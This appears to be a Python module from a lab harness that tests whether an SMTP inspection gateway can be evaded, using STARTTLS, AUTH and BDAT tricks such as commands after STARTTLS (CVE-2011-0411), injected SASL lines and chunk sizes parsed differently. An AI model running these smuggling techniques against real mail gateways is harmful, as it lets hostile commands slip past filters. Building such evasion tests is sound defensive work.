"""Extensions: STARTTLS, AUTH and BDAT change how what follows is read, if the server agrees.

The gateway here lets the three through, which no PIX does. Sources: RFC 3207 and CVE-2011-0411 (commands after
STARTTLS), RFC 4954, RFC 3030 (a chunk that the server refuses is read as commands; Postfix's and strtol's readings of a
size).
"""

from __future__ import annotations

from collections.abc import Callable

from nfmailguard.lab.evasions.technique import EVIL, Attack, Table
from nfmailguard.lab.lenient_server import Personality
from nfmailguard.lab.rawtcp import RawTcp

__all__ = ["EXTENSIONS"]

EXTENSIONS = Table("extensions")
technique = EXTENSIONS.technique

ANY_END = Personality(line_ends="any")
#: Options for a gateway that lets through verbs and keywords which an ordinary ASA or PIX masks.
OPEN = (
    *("--set", "commands.allow=AUTH,BDAT,DATA,EHLO,HELO,MAIL,NOOP,QUIT,RCPT,RSET,STARTTLS"),
    *("--set", "replies.ehlo=none"),
)


@technique(
    "starttls-refused", "commands behind a STARTTLS that the server refuses, same segment and next", options=OPEN
)
def starttls_refused(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.put(b"STARTTLS\r\n" + EVIL)
    connection.put(EVIL)
    connection.read()


@technique(
    "starttls-behind",
    "commands behind STARTTLS in the same segment, read as said under TLS (CVE-2011-0411)",
    options=OPEN,
    server=Personality(starttls=True),
)
def starttls_behind(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.put(b"STARTTLS\r\n" + EVIL)
    connection.read()


@technique(
    "auth-line-verb",
    "a verb in place of a line behind AUTH, to a server that looks for its own first (Haraka)",
    options=(*OPEN[:1], OPEN[1].replace(",STARTTLS", ""), *OPEN[2:]),
    server=Personality(sasl_commands=True),
)
def auth_line_verb(attack: Attack) -> None:
    for parts in ((b"EXPN root\r\n",), (b"EXPN\r\n",), (b"vrfy ", b"x\r\n")):
        connection = attack.session(b"EHLO")
        connection.say(b"AUTH LOGIN\r\n")
        for part in parts:
            connection.put(part)
            attack.wait(0.02)
        connection.read()


@technique(
    "starttls-no-tls",
    "plain commands where TLS should begin, to a server that reads them",
    options=OPEN,
    server=Personality(starttls=True),
)
def starttls_no_tls(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.say(b"STARTTLS\r\n")
    connection.put(EVIL)


@technique(
    "starttls-early",
    "STARTTLS before the greeting: its 220 looks like STARTTLS's",
    options=OPEN,
)
def starttls_early(attack: Attack) -> None:
    connection = attack.tcp()
    connection.put_syn()
    connection.wait(lambda: connection.established, 1.0)
    connection.put(b"STARTTLS\r\n")
    connection.read()
    connection.put(b"\x16\x03\x01\r\n" + EVIL)


@technique(
    "auth-refused",
    "a command where a SASL line would stand, AUTH refused",
    options=OPEN,
    server=Personality(refuses_auth=True),
)
def auth_refused(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.put(b"AUTH LOGIN\r\n")
    connection.put(EVIL)
    connection.read()


@technique(
    "auth-line-ends", "a SASL line that ends twice: LF or CR, and a command behind it", options=OPEN, server=ANY_END
)
def auth_line_ends(attack: Attack) -> None:
    for end in (b"\n", b"\r", b"\r\n"):
        connection = attack.session(b"EHLO")
        connection.say(b"AUTH LOGIN\r\n")
        connection.put(b"Zm9v" + end + EVIL)
        connection.read()


@technique("auth-behind", "a command behind AUTH in the same segment: a SASL line to the server", options=OPEN)
def auth_behind(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.put(b"AUTH LOGIN\r\n" + EVIL)
    connection.read()
    connection.put(EVIL)


def chunked(
    command: bytes, chunk: bytes, rule: str, *, again: bytes = b""
) -> tuple[Callable[[Attack], None], Personality]:
    """A technique: BDAT with a size that gateway and server may read differently; the server's reading is ``rule``."""

    def run(attack: Attack) -> None:
        connection = attack.mail(b"EHLO")
        if again:
            connection.say(again)
        connection.put(command + b"\r\n" + chunk)
        connection.read()

    return run, Personality(chunking=rule)


for _name, _why, _command, _chunk, _rule in (
    ("bdat-short", "the command behind the chunk", b"BDAT 5 LAST", b"hello" + EVIL, "strict"),
    ("bdat-not-offered", "BDAT to a server that knows none and reads the chunk as commands", b"BDAT 11", EVIL, ""),
    (
        "bdat-trailing",
        "a word that is not LAST: servers refuse, and read on (Postfix: 501)",
        b"BDAT 11 FOO",
        EVIL,
        "strict",
    ),
    ("bdat-spaces", "two spaces before LAST, or behind it", b"BDAT 11  LAST ", EVIL, "strict"),
    ("bdat-signed", "a sign before the size, which strtol takes and others refuse", b"BDAT +11", EVIL, "strict"),
    ("bdat-octal", "a leading zero: octal to strtol with base 0", b"BDAT 0100", b"x" * 64 + EVIL, "octal"),
    (
        "bdat-huge",
        "2^32 and 5: five octets to a server that counts in 32 bits",
        b"BDAT 4294967301",
        b"hello" + EVIL,
        "loose",
    ),
    ("bdat-hex", "a hexadecimal size", b"BDAT 0x0b", EVIL, "strict"),
    ("bdat-lf", "a size that a bare LF ends", b"BDAT 5\nhello", EVIL, "strict"),
):
    _run, _server = chunked(_command, _chunk, _rule)
    technique(_name, _why, options=OPEN, server=_server)(_run)

_run, _server = chunked(b"BDAT 11", EVIL, "strict", again=b"HELO evade.example\r\n")
technique(
    "bdat-after-helo",
    "HELO takes back what EHLO offered (RFC 5321 4.1.4): the chunk is read as commands",
    options=OPEN,
    server=_server,
)(_run)


@technique(
    "bdat-helo-pipelined",
    "HELO, BDAT and the chunk in one segment: what EHLO offered is taken back before the gateway hears of it",
    options=OPEN,
    server=Personality(chunking="strict"),
)
def bdat_helo_pipelined(attack: Attack) -> None:
    connection = attack.session(b"EHLO")
    connection.put(b"HELO evade.example\r\nBDAT 11\r\n" + EVIL)
    connection.read()


@technique(
    "bdat-urgent",
    "the size's second digit is urgent data, in a segment that waits for a gap: 12 to us, 1 to the server",
    options=OPEN,
    server=Personality(chunking="strict"),
)
def bdat_urgent(attack: Attack) -> None:
    connection = attack.mail(b"EHLO")
    start = connection.here
    connection.put(b"DAT 12\r\nx" + EVIL, start + 1, 0x38, urgptr=6)
    attack.wait(0.02)
    connection.put(b"B", start)


def in_chunks(attack: Attack) -> RawTcp:
    connection = attack.mail(b"EHLO")
    connection.say(b"BDAT 5\r\nhello")
    return connection


GIVES_UP = Personality(chunking="strict", gives_up=True)

for _name, _between in (
    ("zero", b"BDAT 0\r\n"),
    ("verb", b"HELP\r\n"),
    ("blank", b"\r\n"),
    ("mail", b"MAIL FROM:<c@example.net>\r\n"),
):

    def given_up(attack: Attack, between: bytes = _between) -> None:
        connection = in_chunks(attack)
        connection.say(between)
        chunk = b"RSET\r\n" + EVIL
        connection.put(b"BDAT %d LAST\r\n" % len(chunk) + chunk)
        connection.read()

    technique(
        f"bdat-given-up-{_name}",
        "a command refused between chunks: then the server takes nothing but RSET, and no chunk for one (Exim 4.96)",
        options=OPEN,
        server=GIVES_UP,
    )(given_up)


@technique(
    "bdat-given-up-pipelined",
    "NOOP between chunks, refused where more is there to be read: each in a segment of its own, none waited for",
    options=OPEN,
    server=GIVES_UP,
)
def bdat_given_up_pipelined(attack: Attack) -> None:
    connection = in_chunks(attack)
    chunk = b"RSET\r\n" + EVIL
    for octets in (b"NOOP\r\n", b"BDAT %d LAST\r\n" % len(chunk) + chunk):
        connection.put(octets)
    connection.read()


@technique(
    "bdat-given-up-together",
    "chunk, BDAT of nothing and the next chunk in one segment",
    options=OPEN,
    server=GIVES_UP,
)
def bdat_given_up_together(attack: Attack) -> None:
    connection = in_chunks(attack)
    chunk = b"RSET\r\n" + EVIL
    connection.put(b"BDAT 1\r\nxBDAT 0\r\nBDAT %d LAST\r\n" % len(chunk) + chunk)
    connection.read()


@technique(
    "bdat-digits",
    "digits and something behind: a size to a server that reads on from them (Exim: sscanf), none to the gateway",
    options=OPEN,
    server=Personality(chunking="loose"),
)
def bdat_digits(attack: Attack) -> None:
    connection = attack.mail(b"EHLO")
    connection.put(b"BDAT 10 FOO\r\nNOOP AAAAA" + EVIL)
    connection.read()
